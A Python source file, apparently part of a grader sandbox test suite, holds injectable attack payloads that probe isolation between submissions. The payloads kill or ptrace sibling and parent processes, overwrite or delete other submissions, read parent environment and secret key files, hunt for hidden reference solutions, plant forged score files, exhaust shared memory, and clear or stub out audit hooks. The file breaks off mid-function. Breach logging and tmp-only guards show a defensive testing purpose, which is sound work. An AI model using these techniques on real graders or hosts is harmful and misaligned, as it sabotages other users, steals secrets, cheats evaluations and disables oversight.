"""Attack code of the non-collusion cases.  ATTACKS[case] = dict(code, needs,
where, canary): `code` is pasted after the honest code of the module named by
`where` ("calculus" top level, "compgraph" top level, or "G": run once per
process from inside calculus.G) and must define _pa_attack(); the generator
appends the call."""

ATTACKS = {}


def attack(name, code, needs=(), where='calculus', canary=True):
    ATTACKS[name] = dict(code=code, needs=tuple(needs), where=where, canary=canary)


# ============================================================== shared helpers
VANDAL = r'''
def _pa_write_text(p, text):
    with open(p, "w") as fh:
        fh.write(text)


def _pa_is_submission(d):
    return _pa_os.path.isfile(_pa_os.path.join(d, "compgraph.py")) or \
        _pa_os.path.isfile(_pa_os.path.join(d, "calculus.py"))


def _pa_candidates(parent, names):
    """Sibling folders that hold another submission (compgraph.py or calculus.py)."""
    own = _pa_os.path.realpath(_pa_os.getcwd())
    out = []
    for n in names:
        d = _pa_os.path.join(parent, n)
        try:
            rd = _pa_os.path.realpath(d)
        except BaseException:
            continue
        if rd == own or own.startswith(rd + "/") or rd.startswith(own + "/"):
            continue
        if _pa_os.path.isdir(d) and _pa_is_submission(d):
            out.append(d)
    return out


def _pa_vandalise(d):
    """Damage another submission's folder; only ever inside /tmp, /var/tmp, /dev/shm."""
    if not _pa_safe_dir(d) or not _pa_is_submission(d):
        _pa_note("vandalise", "skipped (not a grader temp submission folder)", d)
        return
    for fn in ("compgraph.py", "calculus.py"):
        p = _pa_os.path.join(d, fn)
        if _pa_os.path.exists(p) and _pa_ok(_pa_try("overwrite " + p, _pa_write_text, p,
                                                   "raise SystemExit('probe_a vandal')\n")):
            _pa_breach("overwrote " + p)
    p = _pa_os.path.join(d, "probe_a_vandal.txt")
    if _pa_ok(_pa_try("drop " + p, _pa_write_text, p, "probe_a\n")):
        _pa_breach("wrote " + p)
    p = _pa_os.path.join(d, "calculus.py")
    if _pa_os.path.exists(p) and _pa_ok(_pa_try("remove " + p, _pa_os.remove, p)):
        _pa_breach("removed " + p)
    if _pa_ok(_pa_try("chmod 000 " + d, _pa_os.chmod, d, 0)):
        _pa_breach("chmod 000 " + d)
'''

ANCESTORS = r'''
def _pa_in_tmp(p):
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    return any(rp == r or rp.startswith(r + "/") for r in _PA_TMP_ROOTS)


def _pa_ancestor_dirs():
    out = []
    starts = [_pa_os.getcwd()]
    try:
        starts.append(_pa_os.path.dirname(_pa_os.path.abspath(__file__)))
    except BaseException:
        pass
    for s in starts:
        d = _pa_os.path.realpath(s)
        while True:
            up = _pa_os.path.dirname(d)
            if up == d:
                break
            d = up
            if d not in out:
                out.append(d)
    return out


def _pa_parent_cmdline_dirs():
    """Folders named on the parent's command line (outputs, staging); reading it is refused."""
    out = []
    cl = _pa_try("read parent cmdline", _pa_read, "/proc/%d/cmdline" % _pa_os.getppid())
    if not _pa_ok(cl):
        return out
    _pa_breach("read /proc/<ppid>/cmdline")
    for arg in cl.split(b"\0"):
        for piece in arg.decode("utf-8", "replace").split("="):
            if piece.startswith("/") and _pa_os.path.exists(piece):
                d = piece if _pa_os.path.isdir(piece) else _pa_os.path.dirname(piece)
                if d not in out and d != "/":
                    out.append(d)
    return out
'''

# ============================================================== reach_workers
attack('rw_kill_py', r'''
def _pa_attack():
    import signal
    ppid = _pa_os.getppid()
    if _pa_ok(_pa_try("kill(ppid, 0)", _pa_os.kill, ppid, 0)):
        _pa_breach("signal 0 to the parent accepted")
    killed = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - killed):
            killed.add(pid)
            if _pa_ok(_pa_try("SIGKILL %d" % pid, _pa_os.kill, pid, signal.SIGKILL)):
                _pa_breach("SIGKILL to sibling worker %d accepted" % pid)
            _pa_try("SIGSTOP group of %d" % pid, _pa_os.killpg, pid, signal.SIGSTOP)
        _pa_time.sleep(0.2)
''', needs=('PROC',))

attack('rw_kill_native', r'''
def _pa_attack():
    ppid = _pa_os.getppid()
    _pa_scall("kill(ppid, 0)", 62, ppid, 0, mode="kill")
    fd = _pa_scall("pidfd_open(ppid)", 434, ppid, 0, mode="kill")
    if fd is not None and fd >= 0:
        _pa_try("close pidfd", _pa_os.close, fd)
    killed = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - killed):
            killed.add(pid)
            _pa_scall("kill(%d, SIGKILL)" % pid, 62, pid, 9, mode="kill")
            _pa_scall("tgkill(%d, SIGKILL)" % pid, 234, pid, pid, 9, mode="kill")
            pfd = _pa_scall("pidfd_open(%d)" % pid, 434, pid, 0, mode="kill")
            if pfd is not None and pfd >= 0:
                _pa_scall("pidfd_send_signal(%d, SIGKILL)" % pid, 424, pfd, 9, 0, 0, mode="kill")
        _pa_time.sleep(0.2)
''', needs=('PROC', 'NATIVE'))

attack('rw_folder_vandal_py', VANDAL + r'''
def _pa_attack():
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parent = _pa_os.path.dirname(own)
    grand = _pa_os.path.dirname(parent)
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        names = _pa_try("listdir parent", _pa_os.listdir, parent)
        if not _pa_ok(names):
            _pa_try("scandir parent", lambda: [e.name for e in _pa_os.scandir(parent)])
            _pa_try("walk grandparent", lambda: next(_pa_os.walk(grand)))
            break
        cands = _pa_candidates(parent, names)
        if _pa_safe_dir(grand):
            g = _pa_try("listdir grandparent", _pa_os.listdir, grand)
            if _pa_ok(g):
                for n in g:
                    sub = _pa_os.path.join(grand, n)
                    if _pa_os.path.isdir(sub) and _pa_os.path.realpath(sub) != parent:
                        s2 = _pa_try("listdir " + sub, _pa_os.listdir, sub)
                        if _pa_ok(s2):
                            cands += _pa_candidates(sub, s2)
        for d in cands:
            if d not in done:
                done.add(d)
                _pa_vandalise(d)
        _pa_time.sleep(0.25)
''')

attack('rw_folder_guess_py', VANDAL + r'''
def _pa_guesses():
    import re
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parts = own.split("/")
    victims = ["victim_%d" % i for i in range(0, 13)] + ["victim_%s" % c for c in "abcdefgh"] + \
        ["victim", "victim_correct", "victim_honest", "victim_ok", "victim_1_hw2", "victims"]
    out = []
    for level in range(1, min(4, len(parts) - 1)):
        idx = len(parts) - level
        comp = parts[idx]
        alts = []
        for m in re.finditer(r"\d+", comp):
            v = int(m.group())
            for k in range(-20, 21):
                if k and v + k >= 0:
                    alts.append(comp[:m.start()] + str(v + k) + comp[m.end():])
        if _PA_CASE in comp:
            alts += [comp.replace(_PA_CASE, vn) for vn in victims]
        if level <= 2:
            alts += victims
        for a in alts:
            g = "/".join(parts[:idx] + [a] + parts[idx + 1:])
            if g not in out and g != own:
                out.append(g)
    return out


def _pa_attack():
    parent = _pa_os.path.dirname(_pa_os.path.realpath(_pa_os.getcwd()))
    # one write into a guessed sibling is always attempted (refused even if it does not exist)
    first = _pa_os.path.join(parent, "victim_1", "probe_a_guess.txt")
    if _pa_ok(_pa_try("write guessed " + first, _pa_write_text, first, "probe_a\n")):
        _pa_breach("wrote " + first)
    guesses = _pa_try("guess names", _pa_guesses)
    if not _pa_ok(guesses):
        return
    alive = _pa_deadline(3.0)
    for g in guesses[:600]:
        if not alive():
            break
        if _pa_os.path.isdir(g) and _pa_is_submission(g):
            _pa_vandalise(g)
''')

attack('rw_inotify_vandal_native', VANDAL + r'''
def _pa_attack():
    import struct
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parent = _pa_os.path.dirname(own)
    fd = _pa_scall("inotify_init1", 294, 0o4000 | 0o2000000, mode="none")
    if fd is not None and fd >= 0:
        b, a = _pa_cbuf(parent.encode() + b"\0")
        _pa_scall("inotify_add_watch(parent)", 254, fd, a, 0x100 | 0x80 | 0x8, mode="kill")
    _pa_scall("fanotify_init", 300, 0, 0, mode="kill")
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        names = set()
        if fd is not None and fd >= 0:
            try:
                buf = _pa_os.read(fd, 65536)
                i = 0
                while i + 16 <= len(buf):
                    wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
                    names.add(buf[i + 16:i + 16 + ln].rstrip(b"\0").decode("utf-8", "replace"))
                    i += 16 + ln
            except BaseException:
                pass
        listed = _pa_try("listdir parent", _pa_os.listdir, parent)
        if _pa_ok(listed):
            names.update(listed)
        for d in _pa_candidates(parent, [n for n in names if n]):
            if d not in done:
                done.add(d)
                _pa_vandalise(d)
        if not names and not _pa_ok(listed) and (fd is None or fd < 0):
            break
        _pa_time.sleep(0.2)
''', needs=('NATIVE',))

attack('rw_sched_py', r'''
def _pa_same_on_parent():
    import resource
    ppid = _pa_os.getppid()
    if ppid <= 1:
        return

    def aff():
        m = _pa_os.sched_getaffinity(ppid)
        _pa_os.sched_setaffinity(ppid, m)
        return sorted(m)
    if _pa_ok(_pa_try("sched_setaffinity(ppid, same)", aff)):
        _pa_breach("sched_setaffinity on the parent accepted")

    def prio():
        v = _pa_os.getpriority(_pa_os.PRIO_PROCESS, ppid)
        _pa_os.setpriority(_pa_os.PRIO_PROCESS, ppid, v)
        return v
    if _pa_ok(_pa_try("setpriority(ppid, same)", prio)):
        _pa_breach("setpriority on the parent accepted")

    def sch():
        pol = _pa_os.sched_getscheduler(ppid)
        _pa_os.sched_setscheduler(ppid, pol, _pa_os.sched_getparam(ppid))
        return pol
    if _pa_ok(_pa_try("sched_setscheduler(ppid, same)", sch)):
        _pa_breach("sched_setscheduler on the parent accepted")

    def lim():
        cur = resource.prlimit(ppid, resource.RLIMIT_NOFILE)
        resource.prlimit(ppid, resource.RLIMIT_NOFILE, cur)
        return cur
    _pa_try("prlimit(ppid, NOFILE, same)", lim)


def _pa_harm(pid):
    import resource
    if _pa_ok(_pa_try("sched_setaffinity(%d, {0})" % pid, _pa_os.sched_setaffinity, pid, {0})):
        _pa_breach("pinned sibling %d to CPU 0" % pid)
    if _pa_ok(_pa_try("setpriority(%d, 19)" % pid, _pa_os.setpriority, _pa_os.PRIO_PROCESS, pid, 19)):
        _pa_breach("reniced sibling %d" % pid)
    if _pa_ok(_pa_try("SCHED_IDLE %d" % pid, _pa_os.sched_setscheduler, pid, _pa_os.SCHED_IDLE,
                      _pa_os.sched_param(0))):
        _pa_breach("SCHED_IDLE on sibling %d" % pid)
    if _pa_ok(_pa_try("prlimit(%d, AS, 32 MB)" % pid, resource.prlimit, pid, resource.RLIMIT_AS,
                      (32 << 20, 32 << 20))):
        _pa_breach("RLIMIT_AS of sibling %d set to 32 MB" % pid)


def _pa_attack():
    _pa_same_on_parent()
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - done):
            done.add(pid)
            _pa_harm(pid)
        _pa_time.sleep(0.2)
''', needs=('PROC',))

attack('rw_sched_native', r'''
def _pa_same_on_parent():
    ppid = _pa_os.getppid()
    if ppid <= 1:
        return
    b, a = _pa_cbuf(128)
    n = _pa_scall("sched_getaffinity(ppid)", 204, ppid, 128, a, mode="none")
    if n is not None and n > 0:
        _pa_scall("sched_setaffinity(ppid, same)", 203, ppid, n, a, mode="kill")
    r = _pa_scall("getpriority(ppid)", 140, 0, ppid, mode="none")
    if r is not None and r > 0:
        _pa_scall("setpriority(ppid, same)", 141, 0, ppid, 20 - r, mode="kill")
    pol = _pa_scall("sched_getscheduler(ppid)", 145, ppid, mode="none")
    pb, pa = _pa_cbuf(64)
    if pol is not None and pol >= 0 and _pa_scall("sched_getparam(ppid)", 143, ppid, pa, mode="none") == 0:
        _pa_scall("sched_setscheduler(ppid, same)", 144, ppid, pol, pa, mode="kill")
    lb, la = _pa_cbuf(16)
    if _pa_scall("prlimit64(ppid) get", 302, ppid, 7, 0, la, mode="none") == 0:
        _pa_scall("prlimit64(ppid) set same", 302, ppid, 7, la, 0, mode="none")


def _pa_harm(pid):
    mb, ma = _pa_cbuf(b"\x01" + b"\0" * 127)
    _pa_scall("sched_setaffinity(%d, cpu0)" % pid, 203, pid, 128, ma, mode="kill")
    _pa_scall("setpriority(%d, 19)" % pid, 141, 0, pid, 19, mode="kill")
    zb, za = _pa_cbuf(64)
    _pa_scall("sched_setscheduler(%d, SCHED_IDLE)" % pid, 144, pid, 5, za, mode="kill")
    lb, la = _pa_cbuf((32 << 20).to_bytes(8, "little") * 2)
    _pa_scall("prlimit64(%d, RLIMIT_AS, 32 MB)" % pid, 302, pid, 9, la, 0, mode="success")


def _pa_attack():
    _pa_same_on_parent()
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - done):
            done.add(pid)
            _pa_harm(pid)
        _pa_time.sleep(0.2)
''', needs=('PROC', 'NATIVE'))

attack('rw_ptrace_native', r'''
def _pa_attack():
    import ctypes
    ppid = _pa_os.getppid()
    # None is a static object of libpython: same address in every process forked from the
    # same parent.  Read its type pointer and write the very same 8 bytes back (idempotent).
    remote = id(None) + 8
    lb, la = _pa_cbuf(8)
    liov = (ctypes.c_uint64 * 2)(la, 8)
    riov = (ctypes.c_uint64 * 2)(remote, 8)
    _PA_KEEP.extend([liov, riov])
    n = _pa_scall("process_vm_readv(ppid)", 310, ppid, ctypes.addressof(liov), 1, ctypes.addressof(riov), 1, 0,
                mode="kill")
    if n == 8:
        _pa_scall("process_vm_writev(ppid, same bytes)", 311, ppid, ctypes.addressof(liov), 1,
                ctypes.addressof(riov), 1, 0, mode="kill")
    _pa_scall("ptrace(PTRACE_SEIZE, ppid)", 101, 0x4206, ppid, 0, 0, mode="kill")
    zb, za = _pa_cbuf(8)
    ziov = (ctypes.c_uint64 * 2)(za, 8)
    _PA_KEEP.append(ziov)
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        sib = _pa_try("scan /proc for sibling workers", _pa_sibling_workers)
        if not _pa_ok(sib):
            break
        for pid in sorted(sib - done):
            done.add(pid)
            _pa_scall("ptrace(PTRACE_SEIZE, %d)" % pid, 101, 0x4206, pid, 0, 0, mode="kill")
            _pa_scall("ptrace(PTRACE_INTERRUPT, %d)" % pid, 101, 0x4207, pid, 0, 0, mode="none")
            _pa_scall("process_vm_writev(%d, zero None's type)" % pid, 311, pid, ctypes.addressof(ziov), 1,
                    ctypes.addressof(riov), 1, 0, mode="kill")
        _pa_time.sleep(0.2)
''', needs=('PROC', 'NATIVE'))

# ============================================================== reach_grader
attack('rg_walkup_chmod_py', ANCESTORS + r'''
def _pa_attack():
    import stat
    dirs = _pa_ancestor_dirs() + _pa_parent_cmdline_dirs()
    for d in dirs:
        _pa_try("chown(-1, -1) " + d, _pa_os.chown, d, -1, -1)
        if not _pa_safe_dir(d):
            continue
        try:
            st = _pa_os.stat(d)
        except BaseException:
            continue
        if _pa_ok(_pa_try("chmod 000 " + d, _pa_os.chmod, d, 0)):
            _pa_breach("chmod 000 accepted on " + d)
            _pa_try("restore mode " + d, _pa_os.chmod, d, stat.S_IMODE(st.st_mode))
        if _pa_ok(_pa_try("utime " + d, _pa_os.utime, d, (0, 0))):
            _pa_breach("utime accepted on " + d)
            _pa_try("restore times " + d, _pa_os.utime, d, ns=(st.st_atime_ns, st.st_mtime_ns))
''', needs=('PROC',))

attack('rg_write_parent_py', ANCESTORS + r'''
def _pa_attack():
    def w(p):
        with open(p, "w") as fh:
            fh.write("probe_a\n")
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parent = _pa_os.path.dirname(own)
    targets = [parent] + [d for d in _pa_ancestor_dirs() + _pa_parent_cmdline_dirs()
                          if _pa_safe_dir(d) and d != parent]
    for d in targets:
        if not _pa_in_tmp(d):
            # never create anything outside /tmp, /var/tmp, /dev/shm; the refused attempt is
            # still made through a name that cannot be created (no such folder)
            _pa_try("write under " + d, w, _pa_os.path.join(d, "probe_a_no_such_dir", "x"))
            continue
        p = _pa_os.path.join(d, "probe_a_rg_parent.txt")
        if _pa_ok(_pa_try("write " + p, w, p)):
            _pa_breach("wrote " + p)
        p = _pa_os.path.join(d, "probe_a_rg_dir")
        if _pa_ok(_pa_try("mkdir " + p, _pa_os.mkdir, p)):
            _pa_breach("made " + p)
        p = _pa_os.path.join(d, "probe_a_rg_link")
        if _pa_ok(_pa_try("symlink " + p, _pa_os.symlink, "/etc", p)):
            _pa_breach("made " + p)
        p = _pa_os.path.join(d, "probe_a_rg_hardlink.py")
        if _pa_ok(_pa_try("link " + p, _pa_os.link, _pa_os.path.abspath(__file__), p)):
            _pa_breach("made " + p)
''', needs=('PROC',))

attack('rg_kill_parent_py', r'''
def _pa_attack():
    import signal
    ppid = _pa_os.getppid()
    if _pa_ok(_pa_try("kill(ppid, 0)", _pa_os.kill, ppid, 0)):
        _pa_breach("signal 0 to the parent accepted")
    if _pa_ok(_pa_try("kill(1, 0)", _pa_os.kill, 1, 0)):
        _pa_breach("signal 0 to pid 1 accepted")
    pg = _pa_try("getpgid(ppid)", _pa_os.getpgid, ppid)
    if _pa_ok(pg) and pg > 1 and _pa_ok(_pa_try("killpg(parent's group, 0)", _pa_os.killpg, pg, 0)):
        _pa_breach("signal 0 to the parent's process group accepted")
    if ppid > 1 and _pa_is_grader(ppid):
        if _pa_ok(_pa_try("SIGTERM parent", _pa_os.kill, ppid, signal.SIGTERM)):
            _pa_breach("SIGTERM to the parent accepted")
''', needs=('PROC',))

attack('rg_kill_parent_native', r'''
def _pa_attack():
    ppid = _pa_os.getppid()
    _pa_scall("kill(ppid, 0)", 62, ppid, 0, mode="kill")
    _pa_scall("kill(1, 0)", 62, 1, 0, mode="kill")
    _pa_scall("tgkill(ppid, ppid, 0)", 234, ppid, ppid, 0, mode="kill")
    fd = _pa_scall("pidfd_open(ppid)", 434, ppid, 0, mode="kill")
    if fd is not None and fd >= 0:
        _pa_scall("pidfd_send_signal(ppid, 0)", 424, fd, 0, 0, 0, mode="kill")
        _pa_try("close pidfd", _pa_os.close, fd)
    if ppid > 1 and _pa_is_grader(ppid):
        _pa_scall("kill(ppid, SIGTERM)", 62, ppid, 15, mode="kill")
''', needs=('PROC', 'NATIVE'))

# rg_hunt_solutions_py is a reader (no correct code): see HUNT below.
HUNT = r'''
_PA_HUNTED = []
_PA_HUNT_FOUND = {}


def _pa_roots():
    roots = []

    def add(p):
        if p and p != "/" and p not in roots:
            roots.append(p)
    for p in (_pa_sys.prefix, _pa_sys.base_prefix, _pa_sys.exec_prefix):
        add(_pa_os.path.dirname(p))
        add(_pa_os.path.dirname(_pa_os.path.dirname(p)))
    for name, m in list(_pa_sys.modules.items()):
        if name == "grader" or name.startswith("grader."):
            f = getattr(m, "__file__", None)
            if f:
                add(_pa_os.path.dirname(_pa_os.path.dirname(f)))
                add(_pa_os.path.dirname(_pa_os.path.dirname(_pa_os.path.dirname(f))))
    d = _pa_os.path.realpath(_pa_os.getcwd())
    for _ in range(4):
        d = _pa_os.path.dirname(d)
        add(d)
    for p in ("/work", "/srv", "/opt", "/home", "/root", "/app", "/autograder", "/grader", "/usr/src",
              "/tmp", "/var/tmp"):
        add(p)
    return roots


def _pa_fetch_once():
    for m in list(_pa_sys.modules.values()):
        got = getattr(m, "_PA_HUNT_FOUND", None)
        if got and len(got) == 2:
            return dict(got)
    if _PA_HUNTED:
        return None
    _PA_HUNTED.append(1)
    own = _pa_os.path.realpath(_pa_os.getcwd())
    alive = _pa_deadline(3.0)
    found = {}
    skip = {"proc", "sys", "dev", ".git", "node_modules", "__pycache__", "site-packages", "dist-packages"}
    for root in _pa_roots():
        stack = [(root, 0)]
        while stack and alive():
            d, depth = stack.pop()
            entries = _pa_try("scandir " + d, lambda d=d: list(_pa_os.scandir(d)))
            if not _pa_ok(entries):
                continue
            for e in entries:
                try:
                    if e.is_dir(follow_symlinks=False):
                        if depth < 6 and e.name not in skip:
                            stack.append((e.path, depth + 1))
                    elif e.name in ("compgraph.py", "calculus.py"):
                        if _pa_os.path.realpath(_pa_os.path.dirname(e.path)) == own:
                            continue
                        src = _pa_try("read " + e.path, _pa_read, e.path, 1 << 20)
                        if _pa_ok(src) and src and b"raise NotImplementedError" not in src \
                                and b"_pa_call(" not in src:
                            found.setdefault(_pa_os.path.dirname(e.path), {})[e.name[:-3]] = \
                                src.decode("utf-8", "replace")
                    elif "hidden" in e.name.lower() or "solution" in e.name.lower():
                        _pa_try("read " + e.path, _pa_read, e.path, 4096)
                except BaseException:
                    continue
        if not alive():
            break
    complete = sorted((d for d, m in found.items() if len(m) == 2),
                      key=lambda d: ("solution" not in d and "reference" not in d, d))
    if complete:
        _PA_HUNT_FOUND.update(found[complete[0]])
        return dict(found[complete[0]])
    return None
'''

attack('rg_ppid_environ_py', r'''
def _pa_attack():
    ppid = _pa_os.getppid()
    for p in ("/proc/%d/environ" % ppid, "/proc/%d/cmdline" % ppid, "/proc/%d/status" % ppid,
              "/proc/%d/maps" % ppid, "/proc/1/environ", "/proc/1/cmdline"):
        r = _pa_try("read " + p, _pa_read, p)
        if _pa_ok(r) and r:
            _pa_breach("read " + p)
    for p in ("/proc/%d/fd" % ppid, "/proc/%d/cwd" % ppid, "/proc/%d/root" % ppid):
        r = _pa_try("listdir " + p, _pa_os.listdir, p)
        if _pa_ok(r):
            _pa_breach("listed " + p)
''', needs=('PROC',))

attack('rg_staging_key_py', ANCESTORS + r'''
def _pa_attack():
    ppid = _pa_os.getppid()
    dirs = [d for d in _pa_ancestor_dirs() if d != "/"] + ["/proc/%d/cwd" % ppid] + _pa_parent_cmdline_dirs()
    guesses = (".key", "key", "staging.key", ".staging_key", ".hmac_key", "hmac.key", "secret", ".secret",
               "key.bin", ".stage_key", "signing.key")
    subs = ("", "staging", ".staging", "stage", "out", "output", "outputs", "results", ".grader",
            "grader_staging", ".nngrader")
    alive = _pa_deadline(3.0)
    for d in dirs:
        for s in subs:
            if not alive():
                return
            base = _pa_os.path.join(d, s) if s else d
            if s and not _pa_os.path.isdir(base):
                continue
            cands = list(guesses)
            listing = _pa_try("listdir " + base, _pa_os.listdir, base)
            if _pa_ok(listing):
                cands += [n for n in listing if "key" in n.lower() or n.endswith((".json", ".sig", ".hmac"))
                          or "stag" in n.lower()]
            for n in cands:
                p = _pa_os.path.join(base, n)
                if not _pa_os.path.isfile(p):
                    continue
                r = _pa_try("read " + p, _pa_read, p, 4096)
                if _pa_ok(r) and r:
                    _pa_breach("read " + p)
            if ("stag" in base or "result" in base) and _pa_in_tmp(base) and _pa_os.path.isdir(base):
                def plant(p=_pa_os.path.join(base, "probe_a_forged.json")):
                    with open(p, "w") as fh:
                        fh.write('{"probe_a": "forged staged result", "total": 20}\n')
                if _pa_ok(_pa_try("plant in " + base, plant)):
                    _pa_breach("planted a file in " + base)
''', needs=('PROC',))

# ============================================================== memory
attack('mem_memfd_py', r'''
def _pa_attack():
    per, goal = 60 << 20, 1536 << 20
    block = b"\xa5" * (4 << 20)
    alive = _pa_deadline(5.0)
    total = 0
    while total < goal and alive():
        fd = _pa_os.memfd_create("probe_a_mem_%d" % len(_PA_KEEP), 0)
        _PA_KEEP.append(fd)
        if len(_PA_KEEP) == 1:
            _pa_breach("memfd_create allowed")
        _pa_try("ftruncate memfd", _pa_os.ftruncate, fd, per)
        n = 0
        while n < per and alive():
            n += _pa_os.write(fd, block)
        total += n
    _pa_note("memfd bytes held", "ok", total)
''')

attack('mem_memfd_native', r'''
def _pa_attack():
    per, goal = 60 << 20, 1536 << 20
    nb, na = _pa_cbuf(b"probe_a_mem\0")
    alive = _pa_deadline(5.0)
    total = 0
    while total < goal and alive():
        fd = _pa_scall("memfd_create", 319, na, 1, mode="kill")
        if fd is None or fd < 0:
            break
        _PA_KEEP.append(fd)
        r = _pa_scall("fallocate(memfd, 60 MB)", 285, fd, 0, 0, per, mode="none")
        if r is None or r < 0:
            break
        total += per
    _pa_note("memfd bytes held", "ok", total)
''', needs=('NATIVE',))

attack('mem_sysv_shm_native', r'''
def _pa_attack():
    import ctypes
    size = 100 << 20
    alive = _pa_deadline(5.0)
    for i in range(12):
        if not alive():
            break
        shmid = _pa_scall("shmget 100 MB #%d" % i, 29, 0x70612000 + i, size, 0o1000 | 0o600, mode="kill")
        if shmid is None or shmid < 0:
            break
        addr = _pa_scall("shmat", 30, shmid, 0, 0, mode="none")
        if addr is None or addr < 0:
            break
        ctypes.memset(addr, 0x5A, size)
        _pa_scall("shmdt", 67, addr, mode="none")
        # never IPC_RMID: the pages stay after detach and after the worker exits
''', needs=('NATIVE',))

attack('mem_devshm_files_py', r'''
def _pa_attack():
    block = b"\x5a" * (4 << 20)
    per, goal = 60 << 20, 1200 << 20
    alive = _pa_deadline(5.0)
    total = 0
    for root in ("/dev/shm", "/tmp"):
        for i in range(20):
            if total >= goal or not alive():
                return
            p = "%s/probe_a_mem_%02d.bin" % (root, i)

            def fill(p=p):
                with open(p, "wb") as fh:
                    _pa_breach("created " + p)
                    n = 0
                    while n < per and alive():
                        fh.write(block)
                        n += len(block)
                return n
            r = _pa_try("fill " + p, fill)
            if not _pa_ok(r):
                break
            total += r
''')

attack('mem_posix_shm_py', r'''
def _pa_attack():
    import _posixshmem
    block = b"\x5a" * (4 << 20)
    per = 60 << 20
    alive = _pa_deadline(5.0)
    for i in range(20):
        if not alive():
            break
        name = "/probe_a_mem_pshm_%02d" % i
        fd = _posixshmem.shm_open(name, _pa_os.O_CREAT | _pa_os.O_RDWR, 0o600)
        _PA_KEEP.append(fd)
        if i == 0:
            _pa_breach("shm_open created /dev/shm" + name)
        n = 0
        while n < per and alive():
            n += _pa_os.write(fd, block)
        # never shm_unlink
''')

attack('mem_ownfolder_files_py', r'''
def _pa_attack():
    block = b"\x5a" * (4 << 20)
    per = 60 << 20
    alive = _pa_deadline(5.0)
    for i in range(8):
        p = _pa_os.path.join(_pa_os.getcwd(), "probe_a_mem_own_%d.bin" % i)
        with open(p, "wb") as fh:
            n = 0
            while n < per and alive():
                fh.write(block)
                n += len(block)
        if not alive():
            break
''', canary=False)

attack('mem_mmap_ownfile_py', r'''
def _pa_attack():
    import mmap
    per = 60 << 20
    chunk = b"\x5a" * (4 << 20)
    alive = _pa_deadline(5.0)
    for i in range(8):
        p = _pa_os.path.join(_pa_os.getcwd(), "probe_a_mem_map_%d.bin" % i)
        with open(p, "w+b") as fh:
            fh.truncate(per)
            m = mmap.mmap(fh.fileno(), per, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
            try:
                for off in range(0, per, len(chunk)):
                    if not alive():
                        break
                    m[off:off + len(chunk)] = chunk
                m.flush()
            finally:
                m.close()
        if not alive():
            break
''', canary=False)

# ============================================================== silence_the_witness
SILENCE_TOOLS = r'''
def _pa_protected():
    import builtins
    ids = {id(_pa_sys.modules), id(_pa_sys.path), id(builtins.__dict__), id(globals()), id(_pa_os.environ),
           id(_pa_sys.meta_path), id(_pa_sys.path_hooks), id(_pa_sys.path_importer_cache), id(_PA_LOG),
           id(_PA_BREACHES), id(_PA_KEEP)}
    for m in list(_pa_sys.modules.values()):
        d = getattr(m, "__dict__", None)
        if d is not None:
            ids.add(id(d))
    return ids


def _pa_clear(obj, saved, protect):
    """Empty a mutable table, remembering its contents so it can be put back."""
    if id(obj) in protect:
        return 0
    try:
        if isinstance(obj, dict):
            saved.append((obj, dict(obj)))
            obj.clear()
            return 1
        if isinstance(obj, set):
            saved.append((obj, set(obj)))
            obj.clear()
            return 1
        if isinstance(obj, list):
            saved.append((obj, list(obj)))
            obj.clear()
            return 1
    except BaseException:
        pass
    return 0


def _pa_restore(saved, cells=(), globs=(), codes=()):
    for obj, copy in reversed(saved):
        try:
            if isinstance(obj, list):
                obj[:] = copy
            else:
                obj.update(copy)
        except BaseException:
            pass
    for cell, value in cells:
        try:
            cell.cell_contents = value
        except BaseException:
            pass
    for g, k, v in globs:
        try:
            g[k] = v
        except BaseException:
            pass
    for f, code in codes:
        try:
            f.__code__ = code
        except BaseException:
            pass


_PA_HOOK_WORDS = ("audit", "hook", "refus", "deny", "guard", "check", "report", "witness", "allow", "sandbox",
                  "violation", "record")


def _pa_silence_function(f, saved, cells, globs, codes, protect, swap_code=True):
    for cell in (f.__closure__ or ()):
        try:
            c = cell.cell_contents
        except ValueError:
            continue
        if _pa_clear(c, saved, protect):
            continue
        if isinstance(c, (frozenset, tuple)) and c:
            try:
                cell.cell_contents = type(c)()
                cells.append((cell, c))
            except BaseException:
                pass
    g = f.__globals__
    for name in f.__code__.co_names:
        v = g.get(name)
        if v is None or callable(v) or isinstance(v, type(_pa_sys)):
            continue
        if _pa_clear(v, saved, protect):
            continue
        if isinstance(v, (frozenset, tuple)) and v and not name.startswith("__"):
            globs.append((g, name, v))
            g[name] = type(v)()
    if swap_code and not f.__closure__:
        noop = lambda *a, **k: None
        try:
            old = f.__code__
            f.__code__ = noop.__code__
            codes.append((f, old))
        except BaseException as e:
            _pa_note("swap __code__ of " + f.__name__, "refused", repr(e))
'''

attack('stw_gc_closure_py', SILENCE_TOOLS + r'''
def _pa_hooklike():
    import gc
    import types
    me = _pa_os.path.abspath(__file__)
    out = []
    for o in gc.get_objects():
        if not isinstance(o, types.FunctionType):
            continue
        co = o.__code__
        fn = co.co_filename or ""
        if fn == me or "probe_a" in fn or ("grader" not in fn and "sandbox" not in fn):
            continue
        low = o.__name__.lower()
        first = co.co_varnames[:1]
        if any(w in low for w in _PA_HOOK_WORDS) or (co.co_argcount == 2 and first and
                                                    first[0] in ("event", "ev", "name", "evt")):
            out.append(o)
    return out


def _pa_attack():
    saved, cells, globs, codes = [], [], [], []
    protect = _pa_protected()
    hooks = _pa_try("gc scan for the audit hook", _pa_hooklike)
    try:
